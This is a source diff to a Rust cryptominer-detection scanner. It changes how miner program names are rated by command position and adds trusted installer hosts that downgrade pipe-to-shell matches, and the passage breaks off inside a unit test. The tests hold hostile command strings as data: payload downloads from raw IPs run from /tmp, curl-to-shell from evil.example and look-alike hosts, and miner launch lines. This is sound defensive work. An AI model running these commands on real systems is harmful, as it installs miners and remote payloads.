@@ -64,8 +64,10 @@ pub struct Hit {
     /// Indicator id from the YAML.
     pub id: String,
     pub family: Family,
-    /// As the catalogue rates it ALONE (the analyser combines). An ambiguous program name
-    /// (`t-rex`) outside executable position is weak.
+    /// As the catalogue rates it ALONE (the analyser combines). A program name is strong in
+    /// command position, with `./`, or downloaded (URL, release archive); otherwise medium. An
+    /// ambiguous program name (`t-rex`, `excavator`) is strong only in command position, else
+    /// weak.
     pub strength: Strength,
     /// Byte range in the scanned text (for a pool domain: the whole host).
     pub start: usize,
@@ -76,9 +78,12 @@ pub struct Hit {
     pub what: String,
     /// For MinerProgram / MinerImage: the program's display name (XMRig, Ethminer).
     pub program: Option<String>,
-    /// For MinerProgram: the name is in executable position (first word of a command, after
-    /// `./` or a `/path/`, after `exec`/`nohup`/`&&`/`;`/`|`/`sh -c`, a YAML `- ` list item or a
-    /// `command:` value). Always false for other families.
+    /// For MinerProgram: the name is in executable position: in command position (first word
+    /// of a command line, after a launcher such as `exec`/`nohup`/`sudo`, after `;` `&&` `||`
+    /// `|` `&` `$(` or a backtick, after `sh -c`, a `command:` value, a `command: [..]` flow
+    /// list or a `- ` item of a `command:` block list), possibly as the last component of a
+    /// path (`/opt/bin/xmrig`), or run as `./name`. Never in the middle of a path or URL.
+    /// Always false for other families.
     pub executable: bool,
 }
 
@@ -105,6 +110,7 @@ struct IndicatorFile {
     malicious_images: Vec<MaliciousImageDef>,
     miner_images: MinerImagesDef,
     ml_images: Vec<MlImageDef>,
+    trusted_installer_hosts: Vec<String>,
     tradecraft: Vec<PatternDef>,
     words: Vec<LiteralDef>,
 }
@@ -155,6 +161,9 @@ struct PatternDef {
     requires_any: Vec<String>,
     #[serde(default)]
     not_prefixed: Vec<String>,
+    /// Weak when every URL in the span is https on a trusted installer host.
+    #[serde(default)]
+    trusted_downgrade: bool,
 }
 
 #[derive(Debug, Deserialize)]
@@ -271,6 +280,7 @@ struct PatternRule {
     regex: Regex,
     post: Post,
     not_prefixed: Vec<String>,
+    trusted_downgrade: bool,
 }
 
 #[derive(Debug)]
@@ -295,6 +305,8 @@ pub struct IndicatorSet {
     command_keys: Vec<String>,
     port_exclude_hosts: Vec<String>,
     port_exclude_schemes: Vec<String>,
+    /// Lower-case `host` or `host/path-prefix` entries.
+    trusted_hosts: Vec<String>,
     malicious: Vec<MaliciousImage>,
     image_rule: usize,
     image_words_rule: usize,
@@ -392,6 +404,7 @@ impl Builder {
         pattern: &str,
         post: Post,
         not_prefixed: Vec<String>,
+        trusted_downgrade: bool,
     ) -> Result<(), CatalogueError> {
         let id = self.rules[rule].id.clone();
         let (set_index, regex) = self.set_member(&id, pattern)?;
@@ -401,6 +414,7 @@ impl Builder {
             regex,
             post,
             not_prefixed,
+            trusted_downgrade,
         });
         Ok(())
     }
@@ -425,7 +439,7 @@ impl Builder {
                 } else {
                     Post::Plain
                 };
-                self.pattern(rule, p, post, d.not_prefixed.clone())?;
+                self.pattern(rule, p, post, d.not_prefixed.clone(), d.trusted_downgrade)?;
             }
             None if d.literals.is_empty() => {
                 return Err(invalid(format!("{}: needs a pattern or literals", d.id)))
@@ -548,7 +562,7 @@ impl IndicatorSet {
             let ports: Vec<String> = pp.ports.iter().map(u16::to_string).collect();
             let pattern = pp.pattern.replace("{ports}", &ports.join("|"));
             let rule = b.rule(&pp.id, Family::PoolPort, pp.strength, &pp.what, None, false)?;
-            b.pattern(rule, &pattern, Post::Port, Vec::new())?;
+            b.pattern(rule, &pattern, Post::Port, Vec::new(), false)?;
         }
         for d in &f.wallets {
             b.pattern_def(d, Family::MoneroWallet)?;
@@ -647,6 +661,7 @@ impl IndicatorSet {
             command_keys: lower(&f.command_keys),
             port_exclude_hosts: lower(&f.pool_ports.exclude_hosts),
             port_exclude_schemes: lower(&f.pool_ports.exclude_schemes),
+            trusted_hosts: lower(&f.trusted_installer_hosts),
             malicious,
             image_rule,
             image_words_rule,
@@ -688,13 +703,18 @@ impl IndicatorSet {
             .map(|m| m.source.as_str())
     }
 
-    fn hit(&self, rule: usize, text: &str, start: usize, end: usize, exec: bool) -> Hit {
+    /// A hit of `rule`; `strength` overrides the rule's own (program placement, trusted hosts).
+    fn hit(
+        &self,
+        rule: usize,
+        text: &str,
+        start: usize,
+        end: usize,
+        exec: bool,
+        strength: Option<Strength>,
+    ) -> Hit {
         let r = &self.rules[rule];
-        let strength = if r.ambiguous && !exec {
-            Strength::Weak
-        } else {
-            r.strength
-        };
+        let strength = strength.unwrap_or(r.strength);
         Hit {
             id: r.id.clone(),
             family: r.family,
@@ -724,9 +744,12 @@ impl IndicatorSet {
             if lit.case_sensitive && &bytes[s..e] != lit.text.as_bytes() {
                 continue;
             }
-            if let Some((s, e, exec)) = self.literal_bounds(text, lit.check, s, e) {
+            let ambiguous = self.rules[lit.rule].ambiguous;
+            if let Some((s, e, exec, strength)) =
+                self.literal_bounds(text, lit.check, s, e, ambiguous)
+            {
                 counts[lit.rule] += 1;
-                hits.push(self.hit(lit.rule, text, s, e, exec));
+                hits.push(self.hit(lit.rule, text, s, e, exec, strength));
             }
         }
 
@@ -761,8 +784,10 @@ impl IndicatorSet {
                                 .is_some_and(|h| self.pool_host(text, h.start(), h.as_str())),
                         };
                         if ok {
+                            let strength = (p.trusted_downgrade && self.trusted_urls_only(span))
+                                .then_some(Strength::Weak);
                             counts[p.rule] += 1;
-                            hits.push(self.hit(p.rule, text, m.start(), m.end(), false));
+                            hits.push(self.hit(p.rule, text, m.start(), m.end(), false, strength));
                         }
                     }
                 }
@@ -774,28 +799,32 @@ impl IndicatorSet {
         hits
     }
 
-    /// Boundary checks for a literal hit; returns the (possibly widened) span and whether a
-    /// program name is in executable position.
+    /// Boundary checks for a literal hit; returns the (possibly widened) span, whether a
+    /// program name is in executable position, and a strength overriding the rule's.
     fn literal_bounds(
         &self,
         text: &str,
         check: Check,
         s: usize,
         e: usize,
-    ) -> Option<(usize, usize, bool)> {
+        ambiguous: bool,
+    ) -> Option<(usize, usize, bool, Option<Strength>)> {
+        if check == Check::Program {
+            return self.program_bounds(text, s, e, ambiguous);
+        }
+        self.other_bounds(text, check, s, e)
+            .map(|(s, e)| (s, e, false, None))
+    }
+
+    /// Boundary checks for a non-program literal hit; the (possibly widened) span.
+    fn other_bounds(&self, text: &str, check: Check, s: usize, e: usize) -> Option<(usize, usize)> {
         let b = text.as_bytes();
         let prev = if s > 0 { Some(b[s - 1]) } else { None };
         let next = b.get(e).copied();
         let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
         match check {
-            Check::Token | Check::ImageWord => {
-                (!alnum(prev) && !alnum(next)).then_some((s, e, false))
-            }
-            Check::Program => {
-                if alnum(prev) || alnum(next) {
-                    return None;
-                }
-                Some((s, e, self.executable_position(text, s)))
+            Check::Token | Check::ImageWord | Check::Program => {
+                (!alnum(prev) && !alnum(next)).then_some((s, e))
             }
             Check::Flag => {
                 let before = matches!(
@@ -810,18 +839,18 @@ impl IndicatorSet {
                         b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b'=' | b',' | b']' | b')'
                     )
                 );
-                (before && after).then_some((s, e, false))
+                (before && after).then_some((s, e))
             }
             Check::Scheme => {
                 let bad_prev =
                     prev.is_some_and(|c| c.is_ascii_alphanumeric() || b"+.-".contains(&c));
-                (!bad_prev && text[e..].starts_with("://")).then_some((s, e, false))
+                (!bad_prev && text[e..].starts_with("://")).then_some((s, e))
             }
             Check::Method => {
                 let bad_prev =
                     prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.');
                 let bad_next = next.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_');
-                (!bad_prev && !bad_next).then_some((s, e, false))
+                (!bad_prev && !bad_next).then_some((s, e))
             }
             Check::Domain => {
                 let host = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_';
@@ -839,73 +868,298 @@ impl IndicatorSet {
                 while start < s && b[start] == b'.' {
                     start += 1;
                 }
-                Some((start, e, false))
+                Some((start, e))
             }
             Check::Agent => {
                 let bad_prev = prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'/');
                 let digit = next.is_some_and(|c| c.is_ascii_digit());
-                (!bad_prev && digit).then_some((s, e, false))
+                (!bad_prev && digit).then_some((s, e))
             }
         }
     }
 
-    /// A program name at `start` is in executable position: first word of a command, after a
-    /// path, after a launcher (`exec`, `nohup`, ...), a shell operator, `sh -c`, a YAML list
-    /// dash or a `command:` key.
-    fn executable_position(&self, text: &str, start: usize) -> bool {
+    /// A program name hit at `s..e`: None when it is not a whole name; otherwise whether it is
+    /// in executable position and its strength (see [`Hit::strength`]).
+    fn program_bounds(
+        &self,
+        text: &str,
+        s: usize,
+        e: usize,
+        ambiguous: bool,
+    ) -> Option<(usize, usize, bool, Option<Strength>)> {
         let b = text.as_bytes();
-        if start > 0 && b[start - 1] == b'/' {
-            return true; // ./xmrig, /usr/bin/xmrig
+        let at = |i: usize| b.get(i).copied();
+        let alnum = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
+        let prev = if s > 0 { Some(b[s - 1]) } else { None };
+        let next = at(e);
+        if alnum(prev) || alnum(next) {
+            return None;
         }
-        let mut i = start;
-        // Opening quotes, then blanks.
+        // `t-rex-64` (Cisco TRex), `excavator_v2`, `excavator.py`: another name, not the miner.
+        if ambiguous
+            && matches!(next, Some(b'-' | b'_' | b'.'))
+            && (alnum(at(e + 1)) || at(e + 1) == Some(b'-'))
+        {
+            return None;
+        }
+        // The token around the name (a path, a URL, `key=value`), bounded.
+        let stop = |c: u8| {
+            c.is_ascii_whitespace()
+                || matches!(c, b'"' | b'\'' | b'[' | b']' | b'(' | b')' | b',')
+                || matches!(
+                    c,
+                    b';' | b'|' | b'&' | b'`' | b'<' | b'>' | b'\\' | b'{' | b'}'
+                )
+        };
+        let mut ts = s;
+        while ts > 0 && s - ts < 512 && !stop(b[ts - 1]) {
+            ts -= 1;
+        }
+        let mut te = e;
+        while te < b.len() && te - e < 512 && !stop(b[te]) {
+            te += 1;
+        }
+        let token = &text[ts..te];
+        let prefix = &text[ts..s];
+        // The name ends its token (a command word, a path's last component). An unambiguous name
+        // may go on with `-`/`_` (`xmrig-notls`, `xmrig_x64`): the whole word is then the name.
+        let mut we = e;
+        if !ambiguous && matches!(next, Some(b'-' | b'_')) {
+            while we < b.len()
+                && we - e < 64
+                && (b[we].is_ascii_alphanumeric() || b[we] == b'-' || b[we] == b'_')
+            {
+                we += 1;
+            }
+        }
+        let ends = matches!(
+            at(we),
+            None | Some(
+                b' ' | b'\t'
+                    | b'\n'
+                    | b'\r'
+                    | b'"'
+                    | b'\''
+                    | b';'
+                    | b'&'
+                    | b'|'
+                    | b')'
+                    | b']'
+                    | b','
+                    | b'`'
+                    | b'\\'
+                    | b'>'
+                    | b'<'
+            )
+        );
+        let url = token.contains("://");
+        let path_prefix = !prefix.is_empty()
+            && prefix.ends_with('/')
+            && prefix
+                .bytes()
+                .all(|c| c.is_ascii_alphanumeric() || b"._~/-$".contains(&c));
+        let yaml_key = at(we) == Some(b':') && (at(we + 1).is_none_or(|c| c.is_ascii_whitespace()));
+        let command = ends
+            && !url
+            && !yaml_key
+            && (prefix.is_empty() || path_prefix)
+            && self.command_position(text, ts);
+        if command {
+            return Some((s, e, true, Some(Strength::Strong)));
+        }
+        if ambiguous {
+            return Some((s, e, false, Some(Strength::Weak)));
+        }
+        // `./xmrig`, `../bin/xmrig`: run from the working directory.
+        let dot = ends && path_prefix && (prefix.starts_with("./") || prefix.starts_with("../"));
+        if dot {
+            return Some((s, e, true, Some(Strength::Strong)));
+        }
+        // Downloaded: in a URL, or a release archive (`xmrig-6.19.2-linux-x64.tar.gz`,
+        // `ethminer.tar.gz`).
+        let rest = &text.as_bytes()[e..];
+        let lower_rest: Vec<u8> = rest.iter().take(8).map(u8::to_ascii_lowercase).collect();
+        let archive = (rest.first() == Some(&b'-') && rest.get(1).is_some_and(u8::is_ascii_digit))
+            || [
+                &b".tar"[..],
+                b".tgz",
+                b".zip",
+                b".gz",
+                b".xz",
+                b".bz2",
+                b".7z",
+                b".txz",
+            ]
+            .iter()
+            .any(|x| lower_rest.starts_with(x));
+        if url || archive {
+            return Some((s, e, false, Some(Strength::Strong)));
+        }
+        Some((s, e, false, Some(Strength::Medium)))
+    }
+
+    /// The word starting at `ws` is in command position: first word of a line (not a `\`
+    /// continuation), after a shell operator (`;` `&&` `||` `|` `&` `$(` backtick), a launcher
+    /// (`exec`, `nohup`, `sudo`, ... with their flags and `VAR=value` assignments), `sh -c`, a
+    /// command key (`command: x`, `command: [x`, a `- x` item of a `command:` list).
+    fn command_position(&self, text: &str, ws: usize) -> bool {
+        let b = text.as_bytes();
+        let mut i = ws;
         let mut n = 0;
-        while i > 0 && matches!(b[i - 1], b'"' | b'\'') && n < 2 {
+        while i > 0 && matches!(b[i - 1], b'"' | b'\'' | b'\\') && n < 3 {
             i -= 1;
             n += 1;
         }
-        while i > 0 && matches!(b[i - 1], b' ' | b'\t') {
-            i -= 1;
-        }
-        if i == 0 {
-            return true;
-        }
-        match b[i - 1] {
-            b'\n' | b'\r' | b';' | b'&' | b'|' | b'(' | b'`' | b'[' | b'{' => return true,
-            b'-' => {
-                // YAML list item: "- xmrig" at the start of a line (not a flag "-t-rex").
-                let mut j = i - 1;
+        // Flags skipped (`nice -n 19 x`): only a launcher then makes it a command.
+        let mut skipped_flags = false;
+        for _ in 0..8 {
+            while i > 0 && matches!(b[i - 1], b' ' | b'\t') {
+                i -= 1;
+            }
+            if i == 0 {
+                return !skipped_flags;
+            }
+            match b[i - 1] {
+                b'\n' | b'\r' => return !skipped_flags && !continued_line(b, i - 1),
+                b';' | b'|' | b'&' | b'`' => return !skipped_flags,
+                b'(' => return !skipped_flags && i >= 2 && b[i - 2] == b'$',
+                b'[' => return !skipped_flags && self.command_key_before(text, i - 1),
+                b':' => {
+                    let key = prev_word(text, i - 1).trim_matches(|c| c == '"' || c == '\'');
+                    return !skipped_flags && self.is_command_key(key);
+                }
+                b'-' if is_yaml_dash(b, i - 1) && i < ws => {
+                    return !skipped_flags && self.yaml_list_of_command(text, i - 1);
+                }
+                _ => {}
+            }
+            let raw = prev_word(text, i);
+            if raw.is_empty() {
+                return false;
+            }
+            let word = raw.trim_matches(|c| matches!(c, '"' | '\'' | ',' | '\\' | '['));
+            if self.launchers.iter().any(|l| l.eq_ignore_ascii_case(word)) {
+                return true;
+            }
+            if word == "-c" {
+                // sh -c xmrig / bash -c "xmrig ..." / [sh, -c, xmrig] / args: ["-c", "xmrig"]
+                if raw.starts_with('[') {
+                    return true;
+                }
+                let mut j = i - raw.len();
                 while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
                     j -= 1;
                 }
-                return (j == 0 || b[j - 1] == b'\n') && i < start;
+                let shell =
+                    prev_word(text, j).trim_matches(|c| matches!(c, '"' | '\'' | ',' | '\\' | '['));
+                let shell = shell.rsplit('/').next().unwrap_or(shell);
+                return matches!(shell, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh");
             }
-            b':' => {
-                let key = prev_word(text, i - 1);
-                let key = key.trim_matches(|c| c == '"' || c == '\'');
-                return self
-                    .command_keys
-                    .iter()
-                    .any(|k| k.eq_ignore_ascii_case(key));
+            let assignment = word.split_once('=').is_some_and(|(k, _)| {
+                !k.is_empty()
+                    && k.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+                    && !k.as_bytes()[0].is_ascii_digit()
+            });
+            let flag = (word.starts_with('-') && word.len() > 1)
+                || (!word.is_empty() && word.bytes().all(|c| c.is_ascii_digit()));
+            if assignment {
+                i -= raw.len();
+            } else if flag {
+                skipped_flags = true;
+                i -= raw.len();
+            } else {
+                return false;
             }
-            _ => {}
-        }
-        let raw = prev_word(text, i);
-        let word = raw.trim_matches(|c| c == '"' || c == '\'');
-        if self.launchers.iter().any(|l| l.eq_ignore_ascii_case(word)) {
-            return true;
-        }
-        if word == "-c" {
-            // sh -c xmrig / bash -c "xmrig ..."
-            let mut j = i - raw.len();
-            while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
-                j -= 1;
-            }
-            let shell = prev_word(text, j);
-            let shell = shell.rsplit('/').next().unwrap_or(shell);
-            return matches!(shell, "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh");
         }
         false
+    }
+
+    fn is_command_key(&self, key: &str) -> bool {
+        self.command_keys
+            .iter()
+            .any(|k| k.eq_ignore_ascii_case(key))
+    }
+
+    /// `command: [`, `"entrypoint": [`, `CMD [`: the `[` at `bracket` opens a command list.
+    fn command_key_before(&self, text: &str, bracket: usize) -> bool {
+        let b = text.as_bytes();
+        let mut j = bracket;
+        while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
+            j -= 1;
+        }
+        let key = if j > 0 && b[j - 1] == b':' {
+            prev_word(text, j - 1)
+        } else {
+            prev_word(text, j)
+        };
+        self.is_command_key(key.trim_matches(|c| c == '"' || c == '\''))
+    }
+
+    /// The YAML block list whose `- ` dash is at `dash` belongs to a command key
+    /// (`command:\n  - xmrig`). Looks back at most 64 lines / 8 KiB.
+    fn yaml_list_of_command(&self, text: &str, dash: usize) -> bool {
+        let line_start = text[..dash].rfind('\n').map_or(0, |p| p + 1);
+        let indent = dash - line_start;
+        let mut end = line_start; // exclusive end of the previous line (its '\n')
+        for _ in 0..64 {
+            if end == 0 || line_start - end > 8192 {
+                return false;
+            }
+            let le = end - 1; // the '\n'
+            let ls = text[..le].rfind('\n').map_or(0, |p| p + 1);
+            end = ls;
+            let line = text[ls..le].trim_end_matches('\r');
+            let content = line.trim_start_matches([' ', '\t']);
+            if content.is_empty() || content.starts_with('#') {
+                continue;
+            }
+            let ind = line.len() - content.len();
+            if ind > indent || (ind == indent && (content == "-" || content.starts_with("- "))) {
+                continue;
+            }
+            let content = content.strip_prefix("- ").unwrap_or(content).trim_end();
+            return content
+                .strip_suffix(':')
+                .is_some_and(|k| self.is_command_key(k.trim().trim_matches(['"', '\''])));
+        }
+        false
+    }
+
+    /// Every URL in `span` is `https://` on a trusted installer host (and there is one).
+    fn trusted_urls_only(&self, span: &str) -> bool {
+        let mut any = false;
+        let mut rest = span;
+        while let Some(p) = rest.find("://") {
+            let before = &rest[..p];
+            let scheme_start = before
+                .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
+                .map_or(0, |q| q + 1);
+            let scheme = before[scheme_start..].to_ascii_lowercase();
+            let after = &rest[p + 3..];
+            let url_end = after
+                .find(|c: char| c.is_whitespace() || "\"'|;&)`<>".contains(c))
+                .unwrap_or(after.len());
+            let url = after[..url_end].to_ascii_lowercase();
+            rest = &after[url_end..];
+            any = true;
+            if scheme != "https" {
+                return false;
+            }
+            let auth_end = url.find(['/', '?', '#']).unwrap_or(url.len());
+            let authority = &url[..auth_end];
+            let host_port = authority.rsplit('@').next().unwrap_or(authority);
+            let host = host_port.split(':').next().unwrap_or(host_port);
+            let path = &url[auth_end..];
+            let hostpath = format!("{host}{path}");
+            let trusted = self.trusted_hosts.iter().any(|t| match t.split_once('/') {
+                Some(_) => hostpath.starts_with(t.as_str()),
+                None => host == t || host.ends_with(&format!(".{t}")),
+            });
+            if !trusted {
+                return false;
+            }
+        }
+        any
     }
 
     /// A `host:port` port hit stands: a named host (or IPv4), not loopback/any, not an
@@ -953,7 +1207,7 @@ impl IndicatorSet {
                 norm == m.image
             };
             if holds {
-                hits.push(self.hit(m.rule, image, 0, repo_end, false));
+                hits.push(self.hit(m.rule, image, 0, repo_end, false, None));
             }
         }
         let b = repo.as_bytes();
@@ -978,7 +1232,7 @@ impl IndicatorSet {
             if !seen.insert(key) {
                 continue;
             }
-            let mut hit = self.hit(rule, image, s, e, false);
+            let mut hit = self.hit(rule, image, s, e, false, None);
             if lit.check == Check::Program {
                 hit.program = r.program.clone();
                 hit.what = format!("{} ({})", self.rules[rule].what, r.what);
@@ -1012,6 +1266,30 @@ impl IndicatorSet {
         }
         None
     }
+}
+
+/// The line ending at the newline `nl` continues the previous one (it ends with `\\`).
+fn continued_line(b: &[u8], nl: usize) -> bool {
+    let mut j = nl;
+    if j > 0 && b[j - 1] == b'\r' {
+        j -= 1;
+    }
+    while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
+        j -= 1;
+    }
+    j > 0 && b[j - 1] == b'\\'
+}
+
+/// `b[dash]` is a YAML block-list dash: only blanks before it on its line, a blank after it.
+fn is_yaml_dash(b: &[u8], dash: usize) -> bool {
+    if !b.get(dash + 1).is_some_and(|&c| c == b' ' || c == b'\t') {
+        return false;
+    }
+    let mut j = dash;
+    while j > 0 && matches!(b[j - 1], b' ' | b'\t') {
+        j -= 1;
+    }
+    j == 0 || b[j - 1] == b'\n'
 }
 
 /// The word (run of non-blank bytes) that ends at `end`.
@@ -1093,7 +1371,7 @@ mod tests {
     #[test]
     fn loads() {
         let s = set();
-        assert_eq!(s.version(), 1);
+        assert_eq!(s.version(), 2);
         assert!(s.len() > 100, "{}", s.len());
         assert!(!s.is_empty());
         assert!(s.describe("prog-xmrig").is_some());
@@ -1190,7 +1468,6 @@ mod tests {
             ("-a cn/r -o x", "flag-algo"),
             ("t-rex -a kawpow -o x", "flag-algo"),
             (r#""algo": "cryptonight","#, "flag-algo"),
-            ("--coin monero", "flag-coin"),
         ] {
             let h = fam(t, Family::MinerFlag);
             assert!(
@@ -1456,7 +1733,7 @@ mod tests {
                 "trade-download-exec-tmp",
             ),
             ("chmod 777 /tmp/.x/run", "trade-chmod-tmp"),
-            ("chmod +x /dev/shm/a", "trade-chmod-tmp"),
+            ("chmod +x /dev/shm/a", "trade-chmod-devshm"),
             ("cd /; /dev/shm/.hidden -c", "trade-exec-devshm"),
             ("nohup ./run >/dev/null 2>&1 &", "trade-nohup-background"),
             (
@@ -1630,5 +1907,392 @@ mod tests {
         let long = format!("{}{}", "é".repeat(100), "supportxmr.com");
         let h = s.scan_text(&long);
         assert_eq!(h[0].matched, "supportxmr.com");
+    }
+
+    fn programs(text: &str) -> Vec<Hit> {
+        fam(text, Family::MinerProgram)
+    }
+
+    fn strongest_program(text: &str) -> Option<Strength> {
+        programs(text).iter().map(|h| h.strength).max()
+    }
+
+    #[test]
+    fn ambiguous_names_outside_command_position_are_weak() {
+        for t in [
+            "yolo train data=/cfg/data.yaml project=s3://models/excavator/",
+            "python prep.py --out /data/excavator",
+            "names: ['excavator', 'dump_truck', 'crane']",
+            r#"{"classes": ["truck", "excavator"]}"#,
+            "cp /data/excavator/x.png /out",
+            "ls /opt/t-rex/t-rex/config",
+            "echo ./t-rex",
+            "labels: [t-rex]",
+        ] {
+            let h = programs(t);
+            assert!(
+                h.iter()
+                    .all(|h| !h.executable && h.strength == Strength::Weak),
+                "{t}: {h:?}"
+            );
+        }
+        // Cisco TRex is not T-Rex: a name that goes on is another program.
+        for t in [
+            "cd /var/trex/v3.02 && ./t-rex-64 -i --cfg /etc/trex_cfg.yaml",
+            "/bin/bash -c cd /opt && ./t-rex-64 -i",
+            "excavator_v2 --x",
+            "python excavator.py",
+        ] {
+            assert!(programs(t).is_empty(), "{t}: {:?}", programs(t));
+        }
+        // Command position, possibly as a path's last component.
+        for t in [
+            "excavator -p 3456",
+            "x; excavator -p 1",
+            "a || t-rex -a kawpow",
+            "a | t-rex",
+            "sleep 1 & t-rex",
+            "echo $(t-rex --version)",
+            "echo `t-rex`",
+            "exec /opt/t-rex/t-rex -a kawpow",
+            "cd /opt && ./t-rex -a x",
+            "sudo -E LC_ALL=C ./t-rex",
+            "bash -c \"excavator -p 1\"",
+            "sh -c 't-rex -a kawpow'",
+            "command: [sh, -c, t-rex]",
+            "command: [\"/opt/t-rex/t-rex\"]",
+            "command:\n  - /opt/t-rex/t-rex\n  - -a\n",
+            "script: |\n  cd /opt\n  t-rex -a kawpow\n",
+        ] {
+            let h = programs(t);
+            assert!(
+                h.iter()
+                    .any(|h| h.executable && h.strength == Strength::Strong),
+                "{t}: {h:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn unambiguous_names_strong_only_when_run_or_downloaded() {
+        // Detection rules and name lists: medium.
+        for t in [
+            "condition: spawned_process and proc.name in (xmrig, minerd, kdevtmpfsi)",
+            "- list: miner_binaries\n  items: [xmrig, minerd]\n",
+            "miner_names:\n  - xmrig\n  - kinsing\n",
+            "name: xmrig",
+            "values: [\"xmrig\"]",
+            "cat /xmrig/etc/config.json",
+            "cp a /usr/local/bin/xmrig",
+            "grep xmrig /var/log/syslog",
+        ] {
+            let h = programs(t);
+            assert!(!h.is_empty(), "{t}");
+            assert!(
+                h.iter()
+                    .all(|h| h.strength == Strength::Medium && !h.executable),
+                "{t}: {h:?}"
+            );
+        }
+        for t in [
+            "command: [\"xmrig\"]",
+            "command:\n  - \"/xmrig/xmrig\"\n",
+            "        command:\n          - \"/xmrig/xmrig\"\n",
+            "./xmrig -c config.json",
+            "  ./ethminer -U \\\n    -P stratums://x@y:5555 \\\n",
+            "command: [\"xmrig\", \"--config=/etc/xmrig/config.json\"]",
+            "exec nice -n 19 ionice -c3 /xmrig/build/xmrig \\\n  -o p:1",
+            "wget -q -O /var/tmp/kdevtmpfsi http://203.0.113.99/kdevtmpfsi",
+            "chmod +x /var/tmp/kdevtmpfsi && /var/tmp/kdevtmpfsi",
+            "curl -L https://github.com/xmrig/xmrig/releases/download/v6.19.2/x.tar.gz",
+            "tar xf xmrig-6.19.2-linux-x64.tar.gz",
+            "wget -O ethminer.tar.gz https://h/e.tgz",
+            "nohup kinsing &",
+            "exec xmrig-notls",
+        ] {
+            assert_eq!(
+                strongest_program(t),
+                Some(Strength::Strong),
+                "{t}: {:?}",
+                programs(t)
+            );
+        }
+        // The agent string stays strong wherever it is.
+        let h = hits(r#""ua": "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2""#);
+        assert!(h
+            .iter()
+            .any(|h| h.id == "agent-xmrig" && h.strength == Strength::Strong));
+        // A kernel-thread disguise is still reported as such.
+        assert!(!fam("/tmp/kdevtmpfsi", Family::KernelThreadName).is_empty());
+    }
+
+    #[test]
+    fn coin_flag_is_generic() {
+        for t in [
+            "python forecast.py --coin eth --horizon 7",
+            "coin: eth\ninterval: 1h",
+            "--coin monero",
+            r#""coin": "XMR""#,
+        ] {
+            let h = hits(t);
+            assert!(
+                h.iter().any(|h| h.id == "flag-coin"
+                    && h.family == Family::GenericMinerFlag
+                    && h.strength == Strength::Weak),
+                "{t}: {h:?}"
+            );
+            assert!(
+                h.iter().all(|h| h.strength < Strength::Strong),
+                "{t}: {h:?}"
+            );
+        }
+        assert!(hits("--coin ethics").iter().all(|h| h.id != "flag-coin"));
+    }
+
+    fn trade(t: &str) -> Vec<Hit> {
+        fam(t, Family::Tradecraft)
+    }
+
+    fn max_trade(t: &str) -> Option<Strength> {
+        trade(t).iter().map(|h| h.strength).max()
+    }
+
+    #[test]
+    fn trusted_installers_are_weak() {
+        for t in [
+            "curl -LsSf https://astral.sh/uv/install.sh | sh",
+            "curl -fsSL https://get.docker.com | sh",
+            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+            "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash",
+            "curl -sSL https://install.python-poetry.org | python3 -",
+            "curl https://pyenv.run | bash",
+            "curl -fsSL https://bun.sh/install | bash",
+            "curl -fsSL https://deno.land/install.sh | sh",
+            "curl -fsSL https://ollama.com/install.sh | sh",
+            "curl -sfL https://get.k3s.io | sh -",
+            "curl -s https://get.sdkman.io | bash",
+            "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash",
+            "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/miniconda.sh && chmod +x /tmp/miniconda.sh && /tmp/miniconda.sh -b",
+            "wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/miniconda.sh\nchmod +x /tmp/miniconda.sh && /tmp/miniconda.sh -b -p /opt/conda",
+            "cat > /tmp/run.sh <<EOS\npython train.py\nEOS\nchmod +x /tmp/run.sh\n/tmp/run.sh",
+            "chmod +x /tmp/x",
+        ] {
+            assert!(!trade(t).is_empty(), "{t}");
+            assert_eq!(max_trade(t), Some(Strength::Weak), "{t}: {:?}", trade(t));
+        }
+        // Raw IP, plain http, unknown or look-alike host, no URL: medium as before.
+        for t in [
+            "curl -fsSL http://astral.sh/uv/install.sh | sh",
+            "curl -fsSL https://203.0.113.99/install.sh | sh",
+            "curl -fsSL https://evil.example/install.sh | sh",
+            "curl -fsSL https://astral.sh.evil.example/i.sh | sh",
+            "curl -fsSL https://astral.sh@evil.example/i.sh | sh",
+            "curl -fsSL https://get.docker.com.evil.example | sh",
+            "curl -fsSL $URL | sh",
+            "wget http://203.0.113.99/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
+            "curl https://astral.sh/x -o /tmp/a; curl http://1.2.3.4/b -o /tmp/b; chmod +x /tmp/b",
+            "chmod +x /dev/shm/x",
+        ] {
+            assert_eq!(max_trade(t), Some(Strength::Medium), "{t}: {:?}", trade(t));
+        }
+    }
+
+    #[test]
+    fn pipe_to_shell_variants() {
+        for t in [
+            "curl -fsSL http://1.2.3.4/init.sh | LC_ALL=C bash -s",
+            "curl -s -L http://h/setup.sh | LC_ALL=en_US.UTF-8 bash -s 44AF",
+            "curl http://1.2.3.4/i | env X=1 sh",
+            "wget -qO- http://1.2.3.4/i | sudo bash",
+            "wget -qO- http://1.2.3.4/i | sudo -E bash -s",
+            "curl http://1.2.3.4/i | /bin/bash",
+            "curl http://1.2.3.4/i | /usr/local/bin/bash -s -- a",
+        ] {
+            assert!(
+                trade(t)
+                    .iter()
